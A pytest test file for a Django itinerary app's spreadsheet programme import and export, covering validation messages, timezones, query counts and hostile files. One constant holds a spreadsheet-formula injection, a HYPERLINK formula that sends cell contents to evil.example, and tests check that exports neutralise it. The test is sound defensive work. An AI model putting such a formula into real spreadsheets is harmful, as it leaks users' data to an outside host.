"""The programme to and from a spreadsheet: itinerary/programme.py and its staff pages."""

import csv
import io
import random
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
import tablib
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from itinerary import programme
from itinerary.models import Meeting, TravelLeg
from itinerary.programme import COLUMNS, export_file, plan_import, read_spreadsheet
from tests.factories import (
    CityFactory,
    DelegationFactory,
    MeetingFactory,
    MemberFactory,
    OrganisationFactory,
    TravelLegFactory,
    UserFactory,
    local,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def mission():
    delegation = DelegationFactory(slug="ca-china-2016")
    cities = {
        "Beijing": CityFactory(),
        "Shanghai": CityFactory(name="Shanghai", local_name="上海", latitude=None, longitude=None),
        "Nanjing": CityFactory(name="Nanjing", local_name="南京", latitude=None, longitude=None),
        "Sacramento": CityFactory(
            name="Sacramento", local_name="", country="United States", timezone="America/Los_Angeles"
        ),
    }
    members = [MemberFactory(delegation=delegation, full_name=name) for name in ("Betty Yee", "Kim Daniel")]
    orgs = [OrganisationFactory(name=name) for name in ("Ministry of Commerce", "Alibaba")]
    staff = UserFactory(username="own")
    delegation.staff.add(staff)
    return {"delegation": delegation, "cities": cities, "members": members, "orgs": orgs, "staff": staff}


def _row(**values) -> list[str]:
    return [values.get(column, "") for column in COLUMNS]


def _meeting(n: int, **values) -> list[str]:
    day = 21 + n % 10
    hour = 8 + n % 10
    return _row(
        **{
            "type": "meeting",
            "title": f"Meeting {n}",
            "kind": "government",
            "city": ("Beijing", "Shanghai", "Nanjing")[n % 3],
            "starts": f"2016-10-{day} {hour:02}:00",
            "ends": f"2016-10-{day} {hour:02}:45",
            "venue": "Diaoyutai",
            "counterparts": "Ministry of Commerce; Alibaba" if n % 2 else "",
            "attendees": "Betty Yee" if n % 4 == 1 else "",
            **values,
        }
    )


def _leg(n: int, **values) -> list[str]:
    day = 21 + n % 10
    return _row(
        **{
            "type": "leg",
            "mode": "train",
            "carrier": "China Railway",
            "number": f"G{n}",
            "origin": "Beijing",
            "destination": "Shanghai",
            "departs": f"2016-10-{day} 19:00",
            "arrives": f"2016-10-{day} 23:30",
            **values,
        }
    )


def _programme(size: int) -> list[list[str]]:
    return [_leg(n) if n % 10 == 0 else _meeting(n) for n in range(size)]


def _xlsx(rows: list[list[str]]) -> bytes:
    return tablib.Dataset(*rows, headers=list(COLUMNS)).export("xlsx")


def _upload(client, mission, content: bytes, name: str = "programme.xlsx"):
    client.force_login(mission["staff"])
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(reverse("programme", args=[mission["delegation"].slug]), {"file": upload})


def _confirm(client, mission, preview):
    payload = preview.context["payload"]
    return client.post(reverse("programme-import", args=[mission["delegation"].slug]), {"payload": payload})


def _items(delegation) -> list[tuple]:
    """Everything an import could change, to compare before and after."""
    meetings = [
        (
            *(m.uid, m.title, m.starts_at, m.ends_at, m.sequence, m.updated_at, m.city_id),
            sorted(m.counterparts.values_list("pk", flat=True)),
            sorted(m.attendees.values_list("pk", flat=True)),
        )
        for m in Meeting.objects.filter(delegation=delegation).order_by("pk")
    ]
    legs = [
        (leg.uid, leg.departs_at, leg.arrives_at, leg.sequence, leg.updated_at, leg.number)
        for leg in TravelLeg.objects.filter(delegation=delegation).order_by("pk")
    ]
    history = Meeting.history.count() + TravelLeg.history.count()
    return [meetings, legs, history]


def test_programme_import_of_300_rows_with_5_bad_ones_imports_nothing_and_names_all_five(client, mission):
    rows = _programme(300)
    rows[12] = _meeting(12, city="Shangai")
    rows[50] = _meeting(50, attendees="Betty Yee; Kim Danial")
    rows[101] = _meeting(101, city="Sacramento", starts="2017-03-12 02:30", ends="2017-03-12 03:30")
    rows[180] = _meeting(181, starts="2016-10-25 10:00", ends="2016-10-25 09:00")
    rows[299] = _meeting(299, kind="banquet")

    response = _upload(client, mission, _xlsx(rows))

    assert response.status_code == 200
    errors = response.context["plan"].errors
    assert errors == [
        "line 14: no city called 'Shangai' — did you mean Shanghai?",
        "line 52: no member of this mission called 'Kim Danial' — did you mean Kim Daniel?",
        "line 103: starts: 12 Mar 2017 02:30 does not exist in America/Los_Angeles: the clocks go forward "
        "then. Choose another time.",
        "line 182: ends 2016-10-25 09:00 is not after starts 2016-10-25 10:00",
        "line 301: kind 'banquet' is not one of: government, b2b, forum, site_visit, trade_show, ceremony, "
        "meal, press, briefing",
    ]
    page = response.content.decode()
    for error in (
        "line 14: no city called &#x27;Shangai&#x27; — did you mean Shanghai?",
        "line 52:",
        "line 301:",
    ):
        assert error in page
    assert "confirm-import" not in page
    assert not Meeting.objects.exists() and not TravelLeg.objects.exists()


def test_programme_import_of_the_corrected_file_saves_every_row(client, mission):
    rows = _programme(300)

    preview = _upload(client, mission, _xlsx(rows))
    assert preview.context["plan"].errors == []
    assert len(preview.context["plan"].new) == 300
    assert "cannot be read" not in preview.content.decode()  # the upload field starts empty again
    response = _confirm(client, mission, preview)

    assert response.status_code == 302
    delegation = mission["delegation"]
    assert Meeting.objects.filter(delegation=delegation).count() == 270
    assert TravelLeg.objects.filter(delegation=delegation).count() == 30
    meeting = Meeting.objects.get(title="Meeting 1")
    assert meeting.starts_at == datetime(2016, 10, 22, 1, 0, tzinfo=UTC)  # 09:00 in Shanghai's zone
    assert sorted(meeting.counterparts.values_list("name", flat=True)) == ["Alibaba", "Ministry of Commerce"]
    assert list(meeting.attendees.values_list("full_name", flat=True)) == ["Betty Yee"]
    assert not Meeting.objects.get(title="Meeting 2").attendees.exists()  # the whole delegation
    leg = TravelLeg.objects.get(number="G10")
    assert (leg.mode, leg.origin.name, leg.destination.name) == ("train", "Beijing", "Shanghai")


def test_programme_export_then_import_changes_nothing(client, mission):
    preview = _upload(client, mission, _xlsx(_programme(40)))
    _confirm(client, mission, preview)
    # 01:30 PDT to 01:30 PST: the end is the second of a repeated time, written with its offset.
    MeetingFactory(
        delegation=mission["delegation"],
        city=mission["cities"]["Sacramento"],
        starts_at=datetime(2016, 11, 6, 8, 30, tzinfo=UTC),
        title="In the repeated hour",
    )
    before = _items(mission["delegation"])

    for fmt in ("xlsx", "csv"):
        exported = client.get(reverse("programme-export", args=[mission["delegation"].slug]), {"format": fmt})
        preview = _upload(client, mission, exported.content, name=f"programme.{fmt}")
        plan = preview.context["plan"]
        assert (plan.errors, len(plan.new), len(plan.updated), len(plan.unchanged)) == ([], 0, 0, 41)
        assert "confirm-import" not in preview.content.decode()

    assert _items(mission["delegation"]) == before


def test_programme_reimport_updates_the_same_item_and_bumps_its_sequence(client, mission):
    meeting = MeetingFactory(delegation=mission["delegation"], city=mission["cities"]["Beijing"])
    exported = export_file(delegation=mission["delegation"], fmt="xlsx")
    _, rows = read_spreadsheet(content=exported, filename="p.xlsx")
    rows[0][COLUMNS.index("starts")] = "2016-10-25 11:00"
    rows[0][COLUMNS.index("ends")] = "2016-10-25 12:00"
    rows.append(_meeting(7))

    preview = _upload(client, mission, _xlsx(rows))
    [changed] = preview.context["plan"].updated
    assert changed.changes == [
        ("starts", "2016-10-25 09:30", "2016-10-25 11:00"),
        ("ends", "2016-10-25 10:30", "2016-10-25 12:00"),
    ]
    _confirm(client, mission, preview)

    meeting.refresh_from_db()
    assert meeting.starts_at == local(meeting.city, "2016-10-25 11:00")
    assert meeting.sequence == 1
    assert Meeting.objects.filter(delegation=mission["delegation"]).count() == 2


def test_programme_import_leaves_out_columns_the_file_does_not_have(mission):
    meeting = MeetingFactory(delegation=mission["delegation"], staff_notes="Bring gifts", venue="Hall 1")
    plan = plan_import(
        delegation=mission["delegation"], headers=["uid", "venue"], rows=[[str(meeting.uid), "Hall 2"]]
    )
    assert plan.errors == []
    assert plan.rows[0].changes == [("venue", "Hall 1", "Hall 2")]
    assert plan.rows[0].item.staff_notes == "Bring gifts"


def test_programme_import_refuses_wrong_uids(mission):
    meeting = MeetingFactory(delegation=mission["delegation"])
    elsewhere = MeetingFactory()
    rows = [
        _meeting(1, uid=str(meeting.uid)),
        _meeting(2, uid=str(meeting.uid)),
        _meeting(3, uid=str(elsewhere.uid)),
        _meeting(4, uid="not-a-uid"),
        _leg(5, uid=str(meeting.uid).upper()),
    ]
    plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=rows)
    assert plan.errors == [
        f"line 3: UID {meeting.uid} is also on line 2; each item may appear once",
        f"line 4: no meeting or leg of this mission has UID {elsewhere.uid}; "
        "leave it empty to add a new item",
        "line 5: uid 'not-a-uid' is not a UID; leave it empty to add a new item",
        f"line 6: UID {str(meeting.uid).upper()} is also on line 2; each item may appear once",
    ]


def test_programme_import_explains_a_leg_landing_before_it_takes_off(mission):
    rows = [
        _leg(
            1,
            origin="Sacramento",
            departs="2016-10-23 19:00",
            destination="Beijing",
            arrives="2016-10-24 08:00",
        )
    ]
    plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=rows)
    assert plan.errors == [
        "line 2: arrives 2016-10-24 08:00 (Beijing) is not after departs 2016-10-23 19:00 (Sacramento): "
        "that is 2016-10-23 17:00 in Sacramento"
    ]


def test_programme_import_takes_the_first_of_a_repeated_time(mission):
    rows = [_meeting(1, city="Sacramento", starts="2016-11-06 01:30", ends="2016-11-06 02:30")]
    plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=rows)
    assert plan.errors == []
    assert plan.rows[0].item.starts_at == datetime(2016, 11, 6, 8, 30, tzinfo=UTC)  # still daylight time


def test_programme_import_refuses_unknown_columns_and_files(client, mission):
    plan = plan_import(delegation=mission["delegation"], headers=["title", "colour"], rows=[["x", "red"]])
    assert plan.errors[0].startswith("line 1: unknown column 'colour'")
    response = _upload(client, mission, b"not a spreadsheet", name="programme.xlsx")
    assert "This file cannot be read as XLSX" in response.content.decode()
    response = _upload(client, mission, b"title\n", name="programme.txt")
    assert "Upload a .csv or .xlsx file." in response.content.decode()


def test_programme_csv_export_opens_in_excel_and_reads_back(client, mission):
    MeetingFactory(delegation=mission["delegation"], title="北京 Forum", city=mission["cities"]["Beijing"])
    client.force_login(mission["staff"])
    response = client.get(reverse("programme-export", args=[mission["delegation"].slug]), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeffuid,type,status,title".encode())
    headers, rows = read_spreadsheet(content=response.content, filename="programme.csv")
    assert headers == list(COLUMNS)
    assert rows[0][COLUMNS.index("title")] == "北京 Forum"
    assert rows[0][COLUMNS.index("starts")] == "2016-10-25 09:30"


def test_programme_template_has_the_header_only(client, mission):
    client.force_login(mission["staff"])
    response = client.get(reverse("programme-template", args=[mission["delegation"].slug]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [[cell.value for cell in row] for row in sheet.rows] == [list(COLUMNS)]


def test_programme_confirm_refuses_a_tampered_preview(client, mission):
    client.force_login(mission["staff"])
    response = client.post(reverse("programme-import", args=[mission["delegation"].slug]), {"payload": "x:y"})
    assert response.status_code == 302
    assert not Meeting.objects.exists()


def test_programme_confirm_refuses_a_preview_of_another_mission(client, mission):
    other = DelegationFactory()
    other.staff.add(mission["staff"])
    preview = _upload(client, mission, _xlsx(_programme(3)))
    response = client.post(
        reverse("programme-import", args=[other.slug]), {"payload": preview.context["payload"]}
    )
    assert response.status_code == 302
    assert not Meeting.objects.exists()


def test_programme_plan_queries_do_not_grow_with_the_file(mission):
    def queries(size: int) -> int:
        with CaptureQueriesContext(connection) as captured:
            plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=_programme(size))
        assert plan.errors == []
        return len(captured)

    assert queries(10) == queries(300)


def test_programme_plan_queries_do_not_grow_with_the_items_updated(client, mission):
    _confirm(client, mission, _upload(client, mission, _xlsx(_programme(300))))

    def queries(size: int) -> int:
        exported = export_file(delegation=mission["delegation"], fmt="csv")
        headers, rows = read_spreadsheet(content=exported, filename="p.csv")
        with CaptureQueriesContext(connection) as captured:
            plan_import(delegation=mission["delegation"], headers=headers, rows=rows[:size])
        return len(captured)

    assert queries(10) == queries(300)


def test_programme_export_queries_do_not_grow_with_the_mission(mission):
    delegation = mission["delegation"]

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            export_file(delegation=delegation, fmt="xlsx")
        return len(captured)

    def add(count: int) -> None:
        for n in range(count):
            starts_at = datetime(2016, 10, 25, 1, tzinfo=UTC) + timedelta(hours=n)
            meeting = MeetingFactory(
                delegation=delegation, city=mission["cities"]["Shanghai"], starts_at=starts_at
            )
            meeting.attendees.set(mission["members"])
            meeting.counterparts.set(mission["orgs"])
            if n % 5 == 0:
                TravelLegFactory(delegation=delegation, origin=mission["cities"]["Nanjing"]).attendees.set(
                    mission["members"][:1]
                )

    add(10)
    assert queries() == 8  # cities, organisations, members; meetings and their people; legs and theirs
    add(290)
    assert queries() == 8


def test_programme_page_links_the_downloads_and_the_upload(client, mission):
    client.force_login(mission["staff"])
    page = client.get(reverse("programme", args=[mission["delegation"].slug])).content.decode()
    assert "programme/export/?format=xlsx" in page and "programme/template/?format=csv" in page
    assert 'type="file"' in page


def test_programme_confirm_shows_the_preview_again_when_an_item_was_saved_since(client, mission):
    meeting = MeetingFactory(
        delegation=mission["delegation"], city=mission["cities"]["Beijing"], venue="Hall 1"
    )
    _, rows = read_spreadsheet(
        content=export_file(delegation=mission["delegation"], fmt="xlsx"), filename="p.xlsx"
    )
    title = rows[0][COLUMNS.index("title")]
    rows[0][COLUMNS.index("title")] = "Renamed in the file"
    preview = _upload(client, mission, _xlsx(rows))
    meeting.venue = "Hall 2"  # someone else, between the preview and Import
    meeting.save()

    again = _confirm(client, mission, preview)

    assert again.status_code == 200
    assert [row.item.pk for row in again.context["changed"]] == [meeting.pk]
    assert ("venue", "Hall 2", "Hall 1") in again.context["plan"].updated[0].changes
    meeting.refresh_from_db()
    assert (meeting.title, meeting.venue) == (title, "Hall 2")
    assert _confirm(client, mission, again).status_code == 302  # imported knowingly from the new preview
    meeting.refresh_from_db()
    assert (meeting.title, meeting.venue) == ("Renamed in the file", "Hall 1")


# Hostile and large files (issue 20) --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


def _export(client, mission, fmt: str) -> bytes:
    client.force_login(mission["staff"])
    return client.get(reverse("programme-export", args=[mission["delegation"].slug]), {"format": fmt}).content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_programme_export_writes_formulas_as_text_and_reads_back_unchanged(client, mission, fmt):
    MeetingFactory(
        delegation=mission["delegation"],
        city=mission["cities"]["Beijing"],
        title=FORMULA,
        venue="=Main hall (level 2)",
        staff_notes="=TBC by Friday",
        address="+86 10 5859 0000",
        description="@channel: bring cards",
    )
    content = _export(client, mission, fmt)
    if fmt == "csv":
        body = content.decode("utf-8-sig")
        assert '"\'=HYPERLINK(""http://evil.example/' in body  # OWASP's apostrophe, inside CSV quoting
        assert ",'=Main hall (level 2)," in body and ",'+86 10 5859 0000," in body
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula cell at all
        row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
        assert row[COLUMNS.index("title")].value == FORMULA
        assert row[COLUMNS.index("title")].data_type != "f"

    preview = _upload(client, mission, content, name=f"programme.{fmt}")
    plan = preview.context["plan"]
    assert plan.errors == [] and plan.saving == 0 and len(plan.unchanged) == 1  # the same values


def test_a_leading_tab_before_a_formula_is_stripped_on_import_and_exported_as_text(client, mission):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["type", "title", "city", "starts", "ends"])
    writer.writerow(["meeting", f"\t{FORMULA}", "Beijing", "2016-10-25 09:00", "2016-10-25 10:00"])
    content = out.getvalue()
    _confirm(client, mission, _upload(client, mission, content.encode(), name="programme.csv"))
    assert Meeting.objects.get().title == FORMULA
    quoted = FORMULA.replace('"', '""')
    assert f'"\'{quoted}"'.encode() in _export(client, mission, "csv")


def test_a_programme_of_too_many_rows_is_refused_at_the_limit_in_words(client, mission):
    # Past the limit the file holds a byte no encoding we read can take: reading it whole (as
    # before, then counting) would end in another message.
    content = b"title\n" + b"a\n" * 6000 + b"\n" * 100_000 + b"\x81"
    response = _upload(client, mission, content, name="programme.csv")
    assert response.context["form"].errors["file"] == [
        "The file has more than 5,000 rows; import at most 5,000 at a time."
    ]


def test_a_programme_upload_in_windows_1252_is_read(client, mission):
    content = (
        "type,title,city,starts,ends\r\nmeeting,Déjeuner – Café,Beijing,2016-10-25 12:00,2016-10-25 13:00\r\n"
    )
    preview = _upload(client, mission, content.encode("cp1252"), name="programme.csv")
    [row] = preview.context["plan"].new
    assert row.item.title == "Déjeuner – Café"


def test_a_nul_byte_in_a_programme_upload_is_refused_before_the_database(client, mission):
    # On PostgreSQL, saving "NUL\x00title" ended in a 500 at Import; now the preview refuses it.
    content = (
        b"type,title,city,starts,ends\r\nmeeting,NUL\x00title,Beijing,2016-10-25 09:00,2016-10-25 10:00\r\n"
    )
    response = _upload(client, mission, content, name="programme.csv")
    assert response.status_code == 200
    [message] = response.context["form"].errors["file"]
    assert message.startswith("Line 2, column B: the cell holds a NUL character (byte 0)")
    assert "confirm-import" not in response.content.decode()
    assert not Meeting.objects.exists()


def test_did_you_mean_looks_each_unknown_name_up_once_and_a_bounded_number_of_times(mission, monkeypatch):
    # The probe's 1,000 rows naming 20 unknown counterparts each spent 53 s in difflib.
    calls = []
    real = programme.difflib.get_close_matches
    monkeypatch.setattr(
        programme.difflib,
        "get_close_matches",
        lambda *args, **kwargs: calls.append(args) or real(*args, **kwargs),
    )
    rows = [
        _meeting(n, counterparts="; ".join(f"Unknown {n} {k}" for k in range(20)) + "; Alibab")
        for n in range(100)
    ]
    plan = plan_import(delegation=mission["delegation"], headers=list(COLUMNS), rows=rows)
    assert len(plan.errors) == 2100
    assert plan.errors[20] == "line 2: no organisation called 'Alibab' — did you mean Alibaba?"
    assert plan.errors[-1] == "line 101: no organisation called 'Alibab' — did you mean Alibaba?"  # kept
    assert len(calls) <= 2 * programme.SUGGESTIONS


def _long_text(rng: random.Random, length: int) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(length))


def test_a_large_valid_import_previews_and_imports(client, mission, settings):
    # The probe's 4,000 rows of long descriptions made a 2.9 MB signed table in the preview's form,
    # past Django's 2.5 MB request limit. The same, scaled down: 60 rows, a 40 KB limit.
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 40_000
    rng = random.Random(20)
    rows = [_meeting(n, description=_long_text(rng, 1500)) for n in range(60)]
    preview = _upload(client, mission, _xlsx(rows))
    assert preview.context["plan"].errors == []
    assert len(preview.context["payload"]) < 1000  # names the kept upload, whatever the file's size
    response = _confirm(client, mission, preview)
    assert response.status_code == 302
    assert Meeting.objects.filter(delegation=mission["delegation"]).count() == 60
    assert Meeting.objects.get(title="Meeting 7").description == rows[7][COLUMNS.index("description")]


def test_an_imported_preview_cannot_be_imported_again(client, mission):
    preview = _upload(client, mission, _xlsx(_programme(3)))
    assert _confirm(client, mission, preview).status_code == 302
    response = _confirm(client, mission, preview)
    assert response.status_code == 302
    assert Meeting.objects.count() + TravelLeg.objects.count() == 3  # the kept file is gone
